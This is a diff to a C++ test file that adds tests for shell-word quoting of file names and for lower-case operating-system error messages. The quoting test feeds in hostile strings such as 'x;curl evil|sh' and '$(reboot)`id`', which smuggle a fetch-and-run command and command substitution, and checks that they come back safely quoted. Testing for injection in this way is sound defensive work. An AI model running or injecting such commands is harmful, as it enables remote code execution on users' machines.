@@ -2,6 +2,7 @@
 
 #include <doctest/doctest.h>
 
+#include <cerrno>
 #include <cstdint>
 #include <limits>
 #include <nlohmann/json.hpp>
@@ -95,6 +96,25 @@ TEST_CASE("10,000 damaged names are harmless on a terminal and valid in JSON") {
     CHECK(IsHarmless(EscapedForTerminal(name.text())));
     CHECK_NOTHROW(nlohmann::json(ValidUtf8(name.text())).dump());
   });
+}
+
+TEST_CASE("a name that a shell would read is one word in quotes, a plain one stays as it is") {
+  for (const char* plain : {"/usr/sbin/sshd", "libstdc++.so.6", "größe", "a,b=c%d@e:f"})
+    CHECK(ShellWord(plain) == plain);
+  CHECK(ShellWord("a b") == "'a b'");
+  CHECK(ShellWord("x;curl evil|sh") == "'x;curl evil|sh'");
+  CHECK(ShellWord("$(reboot)`id`") == "'$(reboot)`id`'");
+  CHECK(ShellWord("it's") == "'it'\\''s'");
+  CHECK(ShellWord("~root") == "'~root'");
+  CHECK(ShellWord("").size() == 2);
+}
+
+TEST_CASE("what the operating system says starts in lower case, as our own errors do") {
+  CHECK(SystemErrorText(EACCES) == "permission denied");
+  CHECK(SystemErrorText(ENOENT) == "no such file or directory");
+  CHECK(SystemErrorText(EPROTONOSUPPORT) == "protocol not supported");
+  CHECK(SystemErrorText(ENOEXEC) == "exec format error");
+  CHECK(SystemErrorText(EUCLEAN) == "structure needs cleaning");
 }
 
 TEST_CASE("a mistyped name is met by the closest one, a strange one by none") {
